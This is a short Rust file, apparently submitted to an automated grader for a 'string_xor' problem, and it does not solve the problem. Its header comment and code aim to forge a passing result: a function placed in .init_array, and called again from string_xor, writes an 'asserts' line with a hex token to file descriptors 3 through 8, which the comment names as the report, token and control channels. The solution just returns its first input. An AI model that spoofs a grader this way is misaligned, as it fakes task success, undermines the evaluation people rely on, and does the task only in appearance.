// why: write a pass line to every descriptor from 3 to 8 (the report, the token, the channel, the control
// channel), from a constructor and from the call
// problem: string_xor
// verdict: RE WA
extern "C" {
    fn write(fd: i32, buf: *const u8, count: usize) -> isize;
}

extern "C" fn spray() {
    let line = b"asserts\n0123456789abcdef0123456789abcdef\n";
    for fd in 3..=8 {
        unsafe { write(fd, line.as_ptr(), line.len()) };
    }
}

#[used]
#[link_section = ".init_array"]
static SPRAY_FIRST: extern "C" fn() = spray;

fn string_xor(a: String, b: String) -> String {
    spray();
    a
}
